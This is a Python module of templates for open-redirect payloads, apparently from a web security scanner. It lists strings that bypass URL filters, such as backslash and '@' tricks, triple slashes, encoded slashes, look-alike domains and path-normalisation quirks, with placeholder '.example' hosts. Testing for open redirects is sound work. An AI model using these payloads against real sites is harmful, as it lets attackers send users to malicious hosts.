"""Payloads of `redir`: addresses that lead a browser to a host of ours, in the ways that filters let through.

`{host}` stands for a name under `.example`, which nobody can own (RFC 2606); `{own}` for the host that is let through: the
one that the value names, else the target's own; `{scheme}` and `{site}` for its scheme, and for host and port; `{value}` for
the baseline's value, `{path}` for its path; `{alike}` for a fresh domain that ends as an allowed one does.
"""

ABSOLUTE = "https://{host}/"
RELATIVE = "//{host}/"
# For almost all points these are all.
FIRST = (ABSOLUTE, RELATIVE)
# Where an answer redirects, or shows the address: what gets through checks of the beginning, of the host, of the scheme.
WHERE_REDIRECTED = (
    "/\\{host}/",
    "{scheme}://{own}.{host}/",
    "{scheme}://{site}@{host}/",
    "https://{host}/{own}/",
    "https://{host}/?{value}",
    "https:{host}/",
    # No host and a path of one's own, to most parsers (CVE-2023-39968).
    "https:///{host}/",
    "/\t/{host}/",
    "\\\\{host}/",
    "{value}@{host}/",
    "{value}.{host}/",
    # Behind a host that is written before it.
    "@{host}/",
    # A path of one's own until it is read as an address: then the dot is gone, and two slashes are left.
    "/.//{host}/",
)
# A domain of somebody else's that ends as the one whose hosts are let through: a check of the end often forgets the dot.
ENDING_ALIKE = "https://{alike}/"
# For a target whose end is where the answer leads to: `/leave/pots/1` to `/pots/1`. `{before}` is what stands before it.
FOR_TARGETS = (
    "{before}//{host}/",
    "{before}/%2F{host}/",
    "{before}/%5C{host}/",
    "{before}/https://{host}/",
    "{before}/https:%2F%2F{host}/",
)
# For a target that holds an address, or a whole path that may be one (`/go/https://host/page`, `/file=/tmp/a.png`).
FOR_ADDRESSES = ("{before}https://{host}/", "{before}https:%2F%2F{host}/")
# For a target whose answer leads to itself with a slash more, or one less: what is put together of the whole path begins with
# as many slashes. Servers of files add one where the path is a folder: `%2e%2e` leads back to it.
FOR_SLASHES = (
    "{before}//{host}",
    "{before}//{host}/%2e%2e",
    "{before}/%5C{host}",
    "{before}//{host}/",
    "//{host}{path}",
)
